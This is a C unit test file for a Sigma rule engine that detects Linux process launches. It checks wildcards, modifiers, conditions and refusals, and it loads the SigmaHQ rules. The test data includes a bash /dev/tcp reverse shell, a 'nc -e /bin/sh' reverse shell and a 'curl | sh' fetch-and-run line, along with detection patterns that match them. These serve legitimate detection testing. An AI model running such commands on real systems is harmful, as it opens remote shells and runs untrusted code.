/*
 * Unit tests of lib/sigma: wildcards and escapes, each modifier, lists
 * and `all`, conditions (and/or/not, parentheses, 1 of, all of, them),
 * the refusals with their lines, and the SigmaHQ Linux process_creation
 * rules: each loads or is refused with a line and a reason.
 */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "sigma/sigma.h"
#include "util/file.h"

static struct sigma_set *
load(const char *yaml, int expect_ok, struct ward_diag *d)
{
	struct sigma_set *s = NULL;
	int r;

	assert_int_equal(sigma_set_new(&s), 0);
	r = sigma_set_add(s, "t.yml", yaml, strlen(yaml), d);
	if (expect_ok && r != 0)
		fail_msg("refused: %d:%d: %s", d->line, d->col, d->msg);
	if (!expect_ok)
		assert_int_not_equal(r, 0);
	return s;
}

static int
matches(const struct sigma_set *s, const char *image, const char *cmd, const char *pimage)
{
	struct sigma_event ev;

	memset(&ev, 0, sizeof(ev));
	ev.field[SF_IMAGE] = image;
	ev.field[SF_COMMANDLINE] = cmd;
	ev.field[SF_PARENTIMAGE] = pimage;
	ev.field[SF_USER] = "root";
	return sigma_match(s, 0, &ev);
}

#define HEAD "title: t\nlogsource:\n  category: process_creation\n  product: linux\n"

static void
test_values_and_modifiers(void **state)
{
	struct ward_diag d;
	struct sigma_set *s;

	(void)state;
	s = load(HEAD "detection:\n  sel:\n    Image|endswith: '/bash'\n"
		      "    CommandLine|contains|all:\n      - ' -c '\n      - '/dev/tcp/'\n"
		      "  condition: sel\naction: kill\n",
		 1, &d);
	assert_int_equal(sigma_rule_action(s, 0), SIGMA_KILL);
	assert_true(matches(s, "/usr/bin/bash", "bash -c 'sh -i >& /dev/tcp/1.2.3.4/4444'", NULL));
	assert_true(matches(s, "/USR/BIN/BASH", "bash -c x >& /DEV/TCP/1", NULL)); /* no case */
	assert_false(matches(s, "/usr/bin/bash", "bash -c 'echo hi'", NULL));	   /* not all */
	assert_false(matches(s, "/usr/bin/zsh", "zsh -c /dev/tcp/", NULL));
	assert_false(matches(s, NULL, "bash -c /dev/tcp/", NULL)); /* unknown field */
	sigma_set_free(s);
	/* Wildcards, escapes, startswith, cased, re. */
	s = load(HEAD "detection:\n  a:\n    Image: '/usr/bin/py*3'\n"
		      "  b:\n    CommandLine|startswith|cased: 'Run\\*'\n"
		      "  c:\n    CommandLine|re: '^curl .*\\|[ ]*sh$'\n"
		      "  condition: a or b or c\n",
		 1, &d);
	assert_true(matches(s, "/usr/bin/python3", "", NULL));
	assert_false(matches(s, "/usr/bin/perl", "", NULL));
	assert_true(matches(s, "/x", "Run* now", NULL));
	assert_false(matches(s, "/x", "run* now", NULL)); /* cased */
	assert_false(matches(s, "/x", "Runner", NULL));	  /* \* is a star */
	assert_true(matches(s, "/x", "curl http://x | sh", NULL));
	assert_false(matches(s, "/x", "curl http://x > f", NULL));
	sigma_set_free(s);
}

static void
test_conditions(void **state)
{
	struct ward_diag d;
	struct sigma_set *s;

	(void)state;
	s = load(HEAD "detection:\n  selection_a:\n    Image|endswith: '/nc'\n"
		      "  selection_b:\n    CommandLine|contains: ' -e '\n"
		      "  filter_main:\n    ParentImage: '/usr/sbin/sshd'\n"
		      "  condition: all of selection_* and not 1 of filter_*\n",
		 1, &d);
	assert_true(matches(s, "/bin/nc", "nc -e /bin/sh 1.2.3.4 9", "/bin/bash"));
	assert_false(matches(s, "/bin/nc", "nc -e /bin/sh 1.2.3.4 9", "/usr/sbin/sshd"));
	assert_false(matches(s, "/bin/nc", "nc -l 9", "/bin/bash"));
	sigma_set_free(s);
	s = load(HEAD "detection:\n  x:\n    - Image: '/a'\n    - Image: '/b'\n"
		      "  y:\n    CommandLine: 'go'\n  condition: (x and y) or not (1 of them)\n",
		 1, &d);
	assert_true(matches(s, "/b", "go", NULL));
	assert_false(matches(s, "/b", "stop", NULL));
	assert_true(matches(s, "/c", "stop", NULL));
	sigma_set_free(s);
}

static void
test_refusals(void **state)
{
	static const struct {
		const char *yaml, *msg;
		int line;
	} cases[] = {
	    {HEAD "detection:\n  s:\n    TargetFilename: '/x'\n  condition: s\n",
	     "field 'TargetFilename' is not supported", 7},
	    {HEAD "detection:\n  s:\n    Image|base64: '/x'\n  condition: s\n",
	     "modifier 'base64' is not supported", 7},
	    {HEAD "detection:\n  s:\n    - 'nc -e'\n  condition: s\n", "keyword lists", 7},
	    {HEAD "detection:\n  s:\n    Image: '/x'\n  condition: s | count() > 5\n",
	     "aggregations are not supported", 8},
	    {HEAD "detection:\n  s:\n    Image: '/x'\n  condition: t\n", "'t' is not a selection",
	     8},
	    {HEAD "detection:\n  s:\n    Image|re: '(?i)x'\n  condition: s\n", "POSIX", 7},
	    {HEAD "detection:\n  s:\n    Image|re: 'a+++++++++++++'\n  condition: s\n",
	     "a quantifier on a quantifier", 7},
	    {HEAD "detection:\n  s:\n    Image|re: '((a{50}){50}){50}'\n  condition: s\n",
	     "product is above 10 000", 7},
	    {HEAD "detection:\n  s:\n    Image|re: 'a{1000}'\n  condition: s\n", "above 100", 7},
	    {"title: t\nlogsource:\n  category: file_event\n  product: linux\ndetection:\n  s:\n"
	     "    Image: x\n  condition: s\n",
	     "only process_creation", 3},
	    {"title: t\nlogsource:\n  category: process_creation\n  product: windows\n"
	     "detection:\n  s:\n    Image: x\n  condition: s\n",
	     "only Linux", 4},
	    {HEAD "detection:\n  s:\n    Image: '/x'\n", "no condition", 0},
	    {"title: [broken\n", "", 0},
	};
	struct ward_diag d;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
		struct sigma_set *s = load(cases[i].yaml, 0, &d);

		if (strstr(d.msg, cases[i].msg) == NULL || (cases[i].line && d.line != cases[i].line))
			fail_msg("case %zu: %d: %s", i, d.line, d.msg);
		assert_string_equal(d.file, "t.yml");
		sigma_set_free(s);
	}
}

/* Every SigmaHQ Linux process_creation rule loads or is refused with a
 * line and a reason; most load. */
static void
test_sigmahq(void **state)
{
	const char *td = getenv("WARD_TESTDATA");
	char dir[1024], path[2048];
	struct sigma_set *s = NULL;
	struct dirent *de;
	unsigned files = 0, loaded = 0;
	DIR *dp;

	(void)state;
	snprintf(dir, sizeof(dir), "%s/sigma/rules/linux/process_creation", td ? td : "");
	dp = td != NULL ? opendir(dir) : NULL;
	if (dp == NULL)
		fail_msg("the SigmaHQ rules are not at %s: ../shared/testdata must be beside the "
			 "repository",
			 dir);
	assert_int_equal(sigma_set_new(&s), 0);
	while ((de = readdir(dp)) != NULL) {
		struct ward_diag d;
		uint8_t *buf = NULL;
		size_t len = 0;

		if (strstr(de->d_name, ".yml") == NULL)
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		assert_int_equal(file_read_all(path, SIGMA_MAX_SOURCE, &buf, &len, NULL), 0);
		files++;
		if (sigma_set_add(s, de->d_name, (const char *)buf, len, &d) == 0) {
			loaded++;
		} else {
			if (d.line == 0 || d.msg[0] == '\0')
				fail_msg("%s refused without a line or reason: %s", de->d_name, d.msg);
			print_message("refused %s:%d: %s\n", d.file, d.line, d.msg);
		}
		free(buf);
	}
	closedir(dp);
	print_message("SigmaHQ process_creation: %u of %u rules loaded\n", loaded, files);
	assert_true(files >= 100);
	assert_true(loaded * 10 >= files * 8);
	sigma_set_free(s);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_values_and_modifiers),
	    cmocka_unit_test(test_conditions),
	    cmocka_unit_test(test_refusals),
	    cmocka_unit_test(test_sigmahq),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
